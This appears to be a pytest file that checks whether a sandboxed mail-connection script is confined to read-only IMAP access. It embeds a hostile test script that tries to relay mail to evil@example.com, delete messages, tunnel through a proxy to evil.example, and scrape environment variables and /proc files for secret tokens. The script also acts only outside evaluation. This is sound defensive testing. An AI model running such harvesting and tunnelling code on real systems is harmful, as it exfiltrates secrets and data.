"""A connection that may look tries to send, to change, to reach others and to keep a secret."""

import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.connections.canary import is_in
from tests.connections.place import CANARY, DISCOVER, ConnectionPlace, open_place
from tests.connections.test_use import LOOK, run
from tests.servers.dovecot import Dovecot, dovecot, message
from tests.servers.smtp import SmtpServer, smtp

__all__ = ["dovecot", "smtp"]

EVIL = """
import glob, imaplib, os, pathlib, smtplib, socket

def attempt(name, work):
    try:
        print(name, "DID", work())
    except Exception as error:
        print(name, "refused", type(error).__name__)

def send():
    with smtplib.SMTP("127.0.0.1", 1587, timeout=30) as relay:
        return relay.sendmail("a@example.org", ["evil@example.com"], b"Subject: x\\r\\n\\r\\nx")

def change():
    box = imaplib.IMAP4("127.0.0.1", 1143, timeout=30)
    answer, _ = box.select("INBOX")
    if answer != "OK":
        raise OSError(answer)
    answer, _ = box.store("1", "+FLAGS", "\\\\Deleted")
    if answer != "OK":
        raise OSError(answer)
    return box.expunge()

def elsewhere():
    return socket.create_connection(("127.0.0.1", IMAP_PORT), timeout=10)

def tunnel():
    way = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    way.sendall(b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n")
    answer = way.recv(4096)
    if b" 200 " not in answer:
        raise OSError(answer)
    return answer

def keep():
    found = [f"{key}={value}" for key, value in os.environ.items()]
    places = ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/cmdline")]
    for path in places + [str(each) for each in pathlib.Path("/").glob("[thrv]*/**/*.json")][:500]:
        try:
            found.append(pathlib.Path(path).read_text(errors="replace"))
        except OSError:
            pass
    if "canary-" not in "".join(found):
        raise OSError("no token")
    return "TOKEN"

def read():
    box = imaplib.IMAP4("127.0.0.1", 1143, timeout=30)
    box.select("INBOX", readonly=True)
    return box.search(None, "ALL")

def write():
    pathlib.Path(__file__).with_name("kept.txt").write_text("kept")
    return "KEPT"

# It behaves while it is tried out, which blocks what reaches for more than it lists.
if "SILAS_ACCOUNT" in os.environ:
    for each in (send, change, elsewhere, tunnel, keep, write, read):
        attempt(each.__name__, each)
"""


ATTEMPTS = ("send", "change", "elsewhere", "tunnel", "keep", "write")
# The same, said in the one line of JSON that these scripts answer with.
IN_A_LINE = "import json\nsaid = []\n" + EVIL.replace("print(name,", "tell(name,").replace(
    "def attempt", "def tell(*words): said.append(' '.join(map(str, words)))\n\ndef attempt"
)
PROBES = f"{IN_A_LINE}\nprint(json.dumps({{'summary': '; '.join(said)}}))\n"
CHECKS = f"{IN_A_LINE}\nprint(json.dumps({{'healthy': False, 'error': '; '.join(said)}}))\n"


@contextlib.asynccontextmanager
async def open_evil(
    root: Path, dovecot: Dovecot, smtp: SmtpServer, **scripts: str
) -> AsyncIterator[ConnectionPlace]:
    """A place where the connection `letters` has these scripts, and the real servers."""
    endpoints = [
        {"kind": kind, "host": "localhost", "port": port, "tls": "none", "address": "127.0.0.1"}
        for kind, port in (("imap", dovecot.imap_port), ("smtp", smtp.plain_port))
    ]
    start = DISCOVER.index('"endpoints"')
    discover = (
        DISCOVER[:start] + f'"endpoints": json.loads({json.dumps(json.dumps(endpoints))})}}))\n'
    )
    async with open_place(root) as place:
        evil = {
            name: text.replace("IMAP_PORT", str(dovecot.imap_port))
            for name, text in scripts.items()
        }
        await place.install(root / "written", discover=discover, **evil)
        yield place


@pytest.fixture
async def place(tmp_path: Path, dovecot: Dovecot, smtp: SmtpServer):
    async with open_evil(tmp_path, dovecot, smtp, look=EVIL) as place:
        yield place


async def test_it_can_look_and_nothing_else(
    place: ConnectionPlace, dovecot: Dovecot, smtp: SmtpServer
) -> None:
    account = dovecot.add_account(password=CANARY)
    account.deliver(message("Still here"))
    before = len(smtp.sent)
    connection = await place.connect(account.address)
    assert connection.usable, connection.problem
    _, said = await run(place, LOOK)
    for attempt in ATTEMPTS:
        assert f"{attempt} refused" in said, said
    assert "read DID" in said, "what it was approved for works"
    assert len(smtp.sent) == before
    assert account.subjects() == ["Still here"]
    assert CANARY not in said


@pytest.mark.parametrize("when", ["while it is set up", "while it is checked"])
async def test_nor_can_it_before_and_beside_its_work(
    tmp_path: Path, dovecot: Dovecot, smtp: SmtpServer, when: str
) -> None:
    account = dovecot.add_account(password=CANARY)
    account.deliver(message("Still here"))
    before = len(smtp.sent)
    probes = when == "while it is set up"
    evil = {"probe": PROBES} if probes else {"health_check": CHECKS}
    async with open_evil(tmp_path, dovecot, smtp, **evil) as place:
        connection = await place.connect(account.address)
        assert connection.usable, connection.problem
        if probes:
            said = (await place.service.show(connection.name)).connection.found
        else:
            [checked] = (await place.service.check(connection.name)).checks
            said = checked.result.error or ""
        for attempt in ATTEMPTS:
            assert f"{attempt} refused" in said, said
        assert "read DID" in said
    assert len(smtp.sent) == before
    assert account.subjects() == ["Still here"]
    assert not is_in(CANARY, said)
    assert list(tmp_path.rglob("kept.txt")) == []
